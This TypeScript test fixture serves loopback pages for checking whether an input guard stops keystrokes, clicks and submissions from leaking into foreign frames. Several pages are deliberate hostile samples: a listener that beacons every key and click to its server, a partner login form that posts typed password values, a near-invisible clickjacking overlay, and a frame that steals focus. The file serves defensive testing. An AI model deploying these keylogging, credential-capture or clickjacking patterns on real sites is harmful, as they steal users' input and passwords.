// Fixture pages for the input gates: three loopback servers, each with a request log.
//   a  http://127.0.0.1:<p1>  the allowed origin
//   b  http://127.0.0.1:<p2>  another origin of the same site (same renderer process)
//   x  http://127.0.0.2:<p3>  another site (an out-of-process iframe)
// A foreign page (`/sink`) records every event it sees in `window.seen` and beacons it to its own
// server, so a test decides a leak from what reached that server.

import { LoggedSites } from "./logged-sites.ts";

export type { Hit } from "./logged-sites.ts";

function page(title: string, body: string, head = ""): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`;
}

/** Listeners registered by the foreign page's first script: the earliest a page can be. */
const SINK_HEAD = `<script>
window.seen = [];
for (const t of ["keydown","keyup","keypress","beforeinput","input","mousedown","mouseup","click","pointerdown","pointerup","focus","focusin","submit","paste"]) {
  window.addEventListener(t, (e) => {
    window.seen.push(t + (e.key ? ":" + e.key : ""));
    fetch("/beacon", { method: "POST", body: t + (e.key ? ":" + e.key : ""), keepalive: true });
  }, true);
}
</script>`;

function route(u: URL): string | undefined {
  const q = (k: string) => u.searchParams.get(k) ?? "";
  switch (u.pathname) {
    case "/sink":
      return page("Sink", `<h1>Sink</h1><input id="sink" aria-label="Sink field"><button id="sbtn">Sink button</button>`, SINK_HEAD);
    case "/focus-move":
      // The first key typed into the field moves the focus into the foreign frame.
      return page(
        "Focus move",
        `<input id="field" aria-label="Field"><iframe id="bf" title="Foreign" src="${q("b")}/sink" width="300" height="120"></iframe>
<script>
let n = 0;
document.getElementById("field").addEventListener("keydown", () => { if (++n === 1) document.getElementById("bf").focus(); });
</script>`,
      );
    case "/insert-frame":
      // The first key inserts a foreign frame; once it has loaded, the focus is moved into it.
      return page(
        "Insert",
        `<input id="field" aria-label="Field">
<script>
let n = 0;
document.getElementById("field").addEventListener("keydown", () => {
  if (++n !== 1) return;
  const f = document.createElement("iframe");
  f.src = ${JSON.stringify(q("b"))} + "/sink";
  f.onload = () => f.focus();
  document.body.appendChild(f);
});
</script>`,
      );
    case "/nest-sink":
      // A foreign page whose blank child frame gets the page's listeners the moment it exists,
      // before anything else can run in it, and takes the focus whenever this page has it.
      return page(
        "Nest",
        `<script>
window.seen = [];
const f = document.createElement("iframe");
document.documentElement.appendChild(f);
const w = f.contentWindow;
for (const t of ["keydown","keyup","keypress","beforeinput","input","focus","focusin"]) {
  w.addEventListener(t, (e) => { window.seen.push("inner " + t); fetch("/beacon", { method: "POST", body: "inner " + t, keepalive: true }); }, true);
}
f.contentDocument.body.innerHTML = '<input id="in">';
setInterval(() => { if (document.hasFocus() && document.activeElement !== f) f.contentDocument.getElementById("in").focus(); }, 2);
// Which of this page's own listeners see a scripted submit, here and in the child, tick by tick:
// a tick where the child's listener saw it and this document's did not would mean the child's
// guard came after the page's listener.
window.ticks = [];
let saw = [false, false];
document.addEventListener("submit", () => { saw[0] = true; });
w.document.addEventListener("submit", () => { saw[1] = true; });
setInterval(() => {
  saw = [false, false];
  document.dispatchEvent(new Event("submit", { bubbles: true }));
  w.document.dispatchEvent(new Event("submit", { bubbles: true }));
  window.ticks.push(saw.map((x) => (x ? 1 : 0)).join(""));
  if (window.ticks.length > 5000) window.ticks.shift();
}, 1);
</script>`,
      );
    case "/nest-probe":
      return page("Nest probe", `<input id="field" aria-label="Field"><iframe id="bf" title="Foreign" src="${q("b")}/nest-sink" width="300" height="120"></iframe>`);
    case "/focus-move-nest":
      return page(
        "Focus move nest",
        `<input id="field" aria-label="Field"><iframe id="bf" title="Foreign" src="${q("b")}/nest-sink" width="300" height="120"></iframe>
<script>
let n = 0;
document.getElementById("field").addEventListener("keydown", () => { if (++n === 1) document.getElementById("bf").focus(); });
</script>`,
      );
    case "/tab":
      return page("Tab", `<input id="first" aria-label="First"><iframe id="bf" title="Foreign" src="${q("b")}/sink" width="300" height="120"></iframe>`);
    case "/hit-move":
      // A foreign frame, loaded but out of sight, is moved under the pointer when it arrives.
      return page(
        "Hit move",
        `<button id="target" style="position:absolute;left:40px;top:60px;width:200px;height:60px" onclick="document.getElementById('out').textContent='clicked'">Target</button>
<iframe id="bf" title="Foreign" src="${q("b")}/sink" style="position:absolute;left:-1000px;top:0;width:300px;height:200px;border:0"></iframe>
<p id="out" style="position:absolute;top:300px"></p>
<script>
const move = () => { const f = document.getElementById("bf"); f.style.left = "0px"; f.style.top = "0px"; };
document.getElementById("target").addEventListener("mousemove", move);
</script>`,
      );
    case "/hit-over":
      // A same-origin frame with a button, and a foreign frame on top of it.
      return page(
        "Hit over",
        `<iframe id="inner" title="Inner" src="/inner" style="position:absolute;left:0;top:0;width:300px;height:150px;border:0"></iframe>
<iframe id="bf" title="Foreign" src="${q("b")}/sink" style="position:absolute;left:0;top:0;width:300px;height:150px;border:0;opacity:0.01"></iframe>`,
      );
    case "/inner":
      return page("Inner", `<button id="ib" style="width:200px;height:80px" onclick="parent.document.title='inner clicked'">Inner button</button>`);
    case "/pw-closed":
      return page(
        "Closed",
        `<x-login id="login" style="display:block;width:240px;height:40px"></x-login>
<input id="user" aria-label="User">
<input id="open-pw" type="password" aria-label="Open password">
<script>
const root = document.getElementById("login").attachShadow({ mode: "closed" });
root.innerHTML = '<input id="pw" type="password" style="width:220px;height:30px">';
const pw = root.getElementById("pw");
window.focusClosed = () => pw.focus();
window.closedValue = () => pw.value;
let n = 0;
const mode = new URLSearchParams(location.search).get("move");
document.getElementById("user").addEventListener("keydown", () => {
  if (++n === 2) (mode === "open" ? document.getElementById("open-pw") : pw).focus();
});
</script>`,
      );
    case "/pw-top":
      // The allowed page's own login, and a login form of another origin in a frame.
      return page(
        "Login",
        `<input id="user" aria-label="Top user"><input id="pw" type="password" aria-label="Top password">
<iframe id="lf" title="Partner" src="${q("b")}/pw-sink" width="400" height="160"></iframe>`,
      );
    case "/pw-sink":
      // A foreign login form that sends whatever lands in its fields to its own server.
      return page(
        "Partner login",
        `<input id="fuser" aria-label="Frame user"><input id="fpw" type="password" aria-label="Frame password">
<script>
for (const id of ["fuser", "fpw"]) {
  const el = document.getElementById(id);
  for (const t of ["input", "change", "keyup"]) el.addEventListener(t, () => fetch("/beacon", { method: "POST", body: id + "=" + el.value, keepalive: true }));
}
</script>`,
        SINK_HEAD,
      );
    case "/form":
      return page(
        "Form",
        `<h1>Order</h1>
<form id="f" action="/done" method="get"><input name="q" aria-label="Query"><input name="r" aria-label="Other"><button id="submit" type="submit">Place order</button></form>
<button id="danger" data-destructive onclick="fetch('/destroyed');document.getElementById('out').textContent='deleted'">Delete account</button>
<input id="free" aria-label="Free field">
<p id="out"></p>
<script>
// Script-driven: Enter in a field outside the form submits it (no markup says so).
document.getElementById("free").addEventListener("keydown", (e) => { if (e.key === "Enter") document.getElementById("f").requestSubmit(); });
</script>`,
      );
    case "/shadow-form":
      // A same-origin frame inside a shadow root (not in window.frames): the button's handler
      // submits the frame's form.
      return page(
        "Shadow form",
        `<button id="go">Go</button><div id="host"></div>
<script>
const f = document.createElement("iframe");
f.src = "/form";
document.getElementById("host").attachShadow({ mode: "closed" }).appendChild(f);
document.getElementById("go").addEventListener("click", () => f.contentDocument.getElementById("f").requestSubmit());
</script>`,
      );
    case "/add-frame":
      // The button's handler inserts a blank frame holding a form (in a shadow root with ?shadow):
      // the frame's guard starts, and is armed, while the click runs.
      return page(
        "Add frame",
        `<button id="add">Add frame</button><div id="host"></div>
<script>
document.getElementById("add").addEventListener("click", () => {
  const f = document.createElement("iframe");
  (${u.searchParams.has("shadow")} ? document.getElementById("host").attachShadow({ mode: "open" }) : document.body).appendChild(f);
  f.contentDocument.body.innerHTML = '<form action="/done" method="get" target="_top"><button id="b">Place order</button></form>';
});
</script>`,
      );
    case "/reopen":
      // The page rewrites itself with document.open() once loaded, which erases every listener of
      // its window (the guard's too): a plain button whose handler submits the form, and a field
      // that turns into a password field at its first key.
      return page(
        "Reopen",
        `<p>loading</p>
<script>
addEventListener("load", () => setTimeout(() => {
  document.open();
  document.write(${JSON.stringify(`<!doctype html><title>Reopened</title><form id="f" action="/done" method="get"><input name="q" aria-label="Query"><button type="button" id="go" onclick="document.getElementById('f').requestSubmit()">Go</button></form><input id="pw" aria-label="Secret code"><p id="done">ready</p>`)});
  document.close();
  const pw = document.getElementById("pw");
  pw.addEventListener("keydown", () => { pw.type = "password"; });
}, 0));
</script>`,
      );
    case "/form-remote":
      // A form on the allowed page whose action, and a link whose ping, go to another origin.
      return page(
        "Remote form",
        `<form id="f" action="${q("b")}/collect" method="post"><input name="q" aria-label="Query"><button type="submit">Send</button></form>
<a id="ping" href="/done" ping="${q("b")}/ping">Ping link</a>`,
      );
    case "/collect":
    case "/ping":
      return page("Collected", "<h1>Collected</h1>");
    case "/done":
      return page("Done", `<h1>Order placed</h1>`);
    case "/beacon":
    case "/destroyed":
    case "/marker":
      return "";
    default:
      return undefined;
  }
}

export class InputSite extends LoggedSites {
  get a(): string {
    return this.origins[0] as string;
  }
  get b(): string {
    return this.origins[1] as string;
  }
  get x(): string {
    return this.origins[2] as string;
  }

  static async start(): Promise<InputSite> {
    const { servers, origins, logs } = await LoggedSites.serve(["127.0.0.1", "127.0.0.1", "127.0.0.2"], route);
    return new InputSite(servers, origins).adopt(logs);
  }
}
